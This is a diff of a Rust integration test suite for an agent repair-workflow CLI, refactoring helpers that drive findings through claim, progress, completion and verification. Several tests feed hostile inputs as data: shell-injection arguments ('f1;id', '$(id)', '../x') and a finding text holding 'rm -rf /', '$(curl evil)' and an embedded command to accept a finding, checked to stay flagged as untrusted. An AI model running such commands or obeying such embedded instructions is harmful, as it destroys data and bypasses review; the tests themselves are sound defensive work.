@@ -3,33 +3,25 @@
 use crate::support::*;
 use serde_json::Value;
 
-/// Run `args` in `root`, expect success, and return the JSON answer.
-fn step(root: &std::path::Path, args: &[impl AsRef<str>]) -> Value {
-    let args: Vec<&str> = args.iter().map(AsRef::as_ref).collect();
-    let out = run(root, &args, None);
-    assert!(
-        out.status.success(),
-        "{args:?}: {}{}",
-        String::from_utf8_lossy(&out.stdout),
-        String::from_utf8_lossy(&out.stderr)
-    );
-    json(&out)
-}
-
-/// `agent <verb> <id> --session s1 --request-id <rid> --json`, for the caller to extend.
-fn common(verb: &str, id: &str, rid: &str) -> Vec<String> {
+/// `agent <verb> <id> --session <session> --request-id <rid> --json`.
+fn turn<'a>(verb: &'a str, id: &'a str, session: &'a str, rid: &'a str) -> [&'a str; 8] {
     [
         "agent",
         verb,
         id,
         "--session",
-        "s1",
+        session,
         "--request-id",
         rid,
         "--json",
     ]
-    .map(String::from)
-    .to_vec()
+}
+
+/// [`turn`] in session `s1` followed by `extra`, owned, for the caller to extend further.
+fn common(verb: &str, id: &str, rid: &str, extra: &[&str]) -> Vec<String> {
+    let mut args: Vec<String> = turn(verb, id, "s1", rid).map(String::from).to_vec();
+    args.extend(extra.iter().map(|a| a.to_string()));
+    args
 }
 
 #[test]
@@ -37,17 +29,8 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path();
     let document = doc(&[finding("f1", "Make the button blue")]);
-    let out = run(
-        root,
-        &["agent", "repair-import", "-", "--session", "s1", "--json"],
-        Some(document.as_bytes()),
-    );
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    assert_eq!(json(&out)["accepted"], serde_json::json!(["f1"]));
+    let imported = import(root, "s1", &document);
+    assert_eq!(imported["accepted"], serde_json::json!(["f1"]));
 
     let inbox = json(&run(root, &["agent", "repair-inbox", "--json"], None));
     assert_eq!(inbox["protocol"], "a3s.test.repair-inbox/1");
@@ -69,18 +52,16 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
     assert_eq!(again["result"]["replayed"], true);
     assert_eq!(again["result"]["attempt_id"], attempt.as_str());
 
-    let mut progress = common("repair-progress", "f1", "p1");
-    progress.extend([
-        "--attempt-id".into(),
-        attempt.clone(),
-        "--message".into(),
-        "editing".into(),
-    ]);
-    let v = step(root, &progress);
+    let progress = common(
+        "repair-progress",
+        "f1",
+        "p1",
+        &["--attempt-id", &attempt, "--message", "editing"],
+    );
+    let v = ok_json(root, &progress);
     assert_eq!(v["result"]["to"], "repairing");
     // Complete without a change list fails closed.
-    let mut complete = common("repair-complete", "f1", "c1");
-    complete.extend(["--attempt-id".into(), attempt.clone()]);
+    let mut complete = common("repair-complete", "f1", "c1", &["--attempt-id", &attempt]);
     let out = run(
         root,
         &complete.iter().map(String::as_str).collect::<Vec<_>>(),
@@ -97,11 +78,11 @@ fn a_finding_goes_round_the_loop_through_the_cli() {
         "--changed-file".into(),
         "src/a.css".into(),
     ]);
-    let v = step(root, &complete);
+    let v = ok_json(root, &complete);
     assert_eq!(v["result"]["to"], "verifying");
     assert_eq!(v["next_action"]["kind"], "await_verification");
 
-    let rec = step(
+    let rec = ok_json(
         root,
         &["agent", "repair-inspect", "f1", "--session", "s1", "--json"],
     );
@@ -118,84 +99,26 @@ fn refusals_are_coded_and_exit_non_zero() {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path();
     let document = doc(&[finding("f1", "x")]);
-    run(
-        root,
-        &["agent", "repair-import", "-", "--session", "s1"],
-        Some(document.as_bytes()),
-    );
-    let claim = [
-        "agent",
-        "repair-claim",
-        "f1",
-        "--session",
-        "s1",
-        "--request-id",
-        "a",
-        "--json",
-    ];
+    import(root, "s1", &document);
+    let claim = turn("repair-claim", "f1", "s1", "a");
     assert!(run(root, &claim, None).status.success());
-    let other = [
-        "agent",
-        "repair-claim",
-        "f1",
-        "--session",
-        "s1",
-        "--request-id",
-        "b",
-        "--json",
-    ];
+    let other = turn("repair-claim", "f1", "s1", "b");
     let out = run(root, &other, None);
     assert_eq!(out.status.code(), Some(1));
     assert_eq!(
         json(&out)["error"]["code"],
         "test.session.repair_invalid_transition"
     );
-    let conflict = [
-        "agent",
-        "repair-reject",
-        "f1",
-        "--session",
-        "s1",
-        "--request-id",
-        "a",
-        "--json",
-    ];
+    let conflict = turn("repair-reject", "f1", "s1", "a");
     let out = run(root, &conflict, None);
     assert_eq!(
         json(&out)["error"]["code"],
         "test.session.repair_idempotency_conflict"
     );
     for bad in [
-        [
-            "agent",
-            "repair-claim",
-            "f1;id",
-            "--session",
-            "s1",
-            "--request-id",
-            "c",
-            "--json",
-        ],
-        [
-            "agent",
-            "repair-claim",
-            "f1",
-            "--session",
-            "../x",
-            "--request-id",
-            "c",
-            "--json",
-        ],
-        [
-            "agent",
-            "repair-claim",
-            "f1",
-            "--session",
-            "s1",
-            "--request-id",
-            "$(id)",
-            "--json",
-        ],
+        turn("repair-claim", "f1;id", "s1", "c"),
+        turn("repair-claim", "f1", "../x", "c"),
+        turn("repair-claim", "f1", "s1", "$(id)"),
     ] {
         let out = run(root, &bad, None);
         assert_eq!(out.status.code(), Some(2));
@@ -223,11 +146,7 @@ fn hostile_instruction_text_stays_data() {
     let hostile =
         "'; rm -rf / #\n$(curl evil) `id` && a3s-test agent repair-accept f1 --session s1";
     let document = doc(&[finding("f1", hostile)]);
-    run(
-        root,
-        &["agent", "repair-import", "-", "--session", "s1"],
-        Some(document.as_bytes()),
-    );
+    import(root, "s1", &document);
     let inbox = json(&run(root, &["agent", "repair-inbox", "--json"], None));
     let item = &inbox["items"][0];
     assert_eq!(item["page_text"]["untrusted"], true);
@@ -258,30 +177,22 @@ fn hostile_instruction_text_stays_data() {
 /// changed file `src/a.css`) and return each attempt id.
 fn to_verifying(root: &std::path::Path, ids: &[&str]) -> Vec<String> {
     let items: Vec<Value> = ids.iter().map(|id| finding(id, "Fix it")).collect();
-    let out = run(
-        root,
-        &["agent", "repair-import", "-", "--session", "s1"],
-        Some(doc(&items).as_bytes()),
-    );
-    assert!(out.status.success(), "{out:?}");
+    import(root, "s1", &doc(&items));
     let mut attempts = Vec::new();
     for id in ids {
-        let claim = common("repair-claim", id, &format!("claim-{id}"));
-        let attempt = step(root, &claim)["result"]["attempt_id"]
+        let claim = common("repair-claim", id, &format!("claim-{id}"), &[]);
+        let attempt = ok_json(root, &claim)["result"]["attempt_id"]
             .as_str()
             .unwrap()
             .to_owned();
-        let mut progress = common("repair-progress", id, &format!("prog-{id}"));
-        progress.extend(["--attempt-id".into(), attempt.clone()]);
-        step(root, &progress);
-        let mut complete = common("repair-complete", id, &format!("done-{id}"));
-        complete.extend([
-            "--attempt-id".into(),
-            attempt.clone(),
-            "--changed-file".into(),
-            "src/a.css".into(),
-        ]);
-        let v = step(root, &complete);
+        let with_attempt = ["--attempt-id", attempt.as_str()];
+        ok_json(
+            root,
+            &common("repair-progress", id, &format!("prog-{id}"), &with_attempt),
+        );
+        let changed = [&with_attempt[..], &["--changed-file", "src/a.css"]].concat();
+        let complete = common("repair-complete", id, &format!("done-{id}"), &changed);
+        let v = ok_json(root, &complete);
         assert_eq!(v["result"]["to"], "verifying");
         attempts.push(attempt);
     }
@@ -297,18 +208,8 @@ fn verify_result_auto_resolves_only_a_persisted_pass() {
     let root = dir.path();
     let attempts = to_verifying(root, &["f1", "f2", "f3"]);
     let verify = |id: &str, attempt: &str, rid: &str, extra: &[&str]| {
-        let mut args = vec![
-            "agent",
-            "repair-verify-result",
-            id,
-            "--session",
-            "s1",
-            "--request-id",
-            rid,
-            "--attempt-id",
-            attempt,
-            "--json",
-        ];
+        let mut args = turn("repair-verify-result", id, "s1", rid).to_vec();
+        args.extend(["--attempt-id", attempt]);
         args.extend_from_slice(extra);
         run(root, &args, None)
     };
